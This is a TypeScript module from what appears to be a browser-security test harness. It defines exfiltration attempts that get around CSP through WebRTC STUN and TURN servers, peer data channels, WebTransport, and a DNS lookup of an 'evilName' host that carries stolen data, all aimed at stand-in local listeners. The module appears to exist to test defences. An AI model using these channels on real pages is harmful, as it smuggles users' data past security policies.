// Attacks over connections that are no HTTP requests: WebRTC and WebTransport. CSP does not know the former.
import type { Arena, Attack } from '../attack.ts';
import { need, settled, sleep, web } from '../page/in-page.ts';

const MS = 1200;

/** Lets a peer connection look for ways out through the servers. */
async function gather(iceServers: readonly object[]): Promise<void> {
  const Connection = need(web.RTCPeerConnection, 'RTCPeerConnection') as unknown as typeof RTCPeerConnection;
  const connection = new Connection({ iceServers: [...iceServers] as RTCIceServer[] });
  connection.createDataChannel('x');
  await connection.setLocalDescription(await connection.createOffer());
  await sleep(MS);
  connection.close();
}
const account = { username: 'u', credential: 'c' };

/** Two ends in one page; the far one is told to be at the listener. */
async function connectTo(port: number): Promise<void> {
  const Connection = need(web.RTCPeerConnection, 'RTCPeerConnection') as unknown as typeof RTCPeerConnection;
  const [near, far] = [new Connection(), new Connection()];
  near.createDataChannel('x');
  await near.setLocalDescription(await near.createOffer());
  await far.setRemoteDescription(near.localDescription as RTCSessionDescriptionInit);
  await far.setLocalDescription(await far.createAnswer());
  await near.setRemoteDescription(far.localDescription as RTCSessionDescriptionInit);
  await near.addIceCandidate({
    candidate: `candidate:1 1 udp 2122260223 127.0.0.1 ${port} typ host`,
    sdpMid: '0',
    sdpMLineIndex: 0,
  });
  await sleep(MS);
  near.close();
  far.close();
}

async function transport(port: number, options: object): Promise<void> {
  const Transport = need(web.WebTransport, 'WebTransport');
  const opened = new Transport(`https://127.0.0.1:${port}/`, options);
  await settled(opened.ready, MS);
}

type Way = readonly [id: string, title: string, judge: Attack['judge'], run: (arena: Arena) => unknown];
const WAYS: readonly Way[] = [
  [
    'webrtc-stun',
    'STUN server of a peer connection',
    'datagram',
    ({ udpPort }) => gather([{ urls: `stun:127.0.0.1:${udpPort}` }]),
  ],
  [
    'webrtc-turn-udp',
    'TURN server over UDP',
    'datagram',
    ({ udpPort }) => gather([{ urls: `turn:127.0.0.1:${udpPort}?transport=udp`, ...account }]),
  ],
  [
    'webrtc-turn-tcp',
    'TURN server over TCP',
    'connection',
    ({ evilPort }) => gather([{ urls: `turn:127.0.0.1:${evilPort}?transport=tcp`, ...account }]),
  ],
  [
    'webrtc-turn-tls',
    'TURN server over TLS',
    'connection',
    ({ evilPort }) => gather([{ urls: `turns:127.0.0.1:${evilPort}?transport=tcp`, ...account }]),
  ],
  [
    'webrtc-lookup',
    'Look-up of a STUN server’s name, which carries what was stolen',
    'lookup',
    ({ evilName }) => gather([{ urls: `stun:${evilName}:3478` }]),
  ],
  ['webrtc-peer', 'Data channel straight to a peer', 'datagram', ({ udpPort }) => connectTo(udpPort)],
  ['webtransport', 'WebTransport', 'datagram', ({ udpPort }) => transport(udpPort, {})],
  [
    'webtransport-hashes',
    'WebTransport to a self-made certificate',
    'datagram',
    ({ udpPort }) =>
      transport(udpPort, { serverCertificateHashes: [{ algorithm: 'sha-256', value: new Uint8Array(32) }] }),
  ],
];

export const SOCKETS: readonly Attack[] = WAYS.map(([id, title, judge, run]) => ({
  id,
  title,
  threat: 'T113',
  judge,
  run,
}));
